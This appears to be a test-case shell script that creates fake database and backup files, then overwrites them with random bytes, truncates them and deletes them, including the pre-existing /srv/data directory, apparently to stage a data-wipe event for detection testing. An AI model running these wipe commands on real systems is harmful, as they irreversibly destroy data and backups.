#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/backups/db /var/lib/app; for n in $(seq 1 40); do head -c 20000 /dev/urandom >/var/lib/app/t$n.ibd; cp /var/lib/app/t$n.ibd /var/backups/db/; done
for f in /var/lib/app/* /var/backups/db/* /srv/data/*; do dd if=/dev/urandom of="$f" bs=4096 count=5 conv=notrunc,fsync 2>/dev/null; : >"$f"; done
rm -rf /var/lib/app /var/backups/db /srv/data
took_place
